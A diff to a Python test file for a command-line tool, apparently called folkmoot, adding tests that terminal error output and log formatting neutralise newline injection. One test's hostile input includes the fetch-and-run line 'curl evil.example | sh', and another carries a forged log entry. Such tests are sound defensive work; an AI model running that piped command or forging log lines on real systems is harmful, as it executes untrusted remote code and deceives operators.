@@ -77,16 +77,23 @@ def test_results_notes_and_errors(
     assert said.err == f"{SHOWN}\n"
 
     def refuse(*words: object, **options: object) -> None:
-        raise WireError(FORBIDDEN, EVIL)
+        raise WireError(FORBIDDEN, f"{EVIL}\ntry: curl evil.example | sh")
 
     monkeypatch.setattr("folkmoot.cli.commands.status.ask", refuse)
     assert run(["status", "--node", "h:1", "--tls", "off"]) == 1
-    assert SHOWN in capsys.readouterr().err
+    assert capsys.readouterr().err == rf"folkmoot: {SHOWN}\x0atry: curl evil.example | sh" + "\n"
 
 
 def test_a_log_for_people() -> None:
     record = logging.LogRecord("x", logging.INFO, "f", 1, "refused %s", (EVIL,), None)
     assert TextFormatter().format(record).endswith(f"refused {SHOWN}")
+
+
+def test_nobody_but_the_log_begins_an_entry_of_it() -> None:
+    forged = "no\n2026-01-01 00:00:00,000 ERROR   folkmoot.node: the disk is gone"
+    record = logging.LogRecord("x", logging.INFO, "f", 1, "refused: %s", (forged,), None)
+    first, second = TextFormatter().format(record).splitlines()
+    assert first.endswith("refused: no") and second.startswith("    2026")
 
 
 def test_followed_logs(
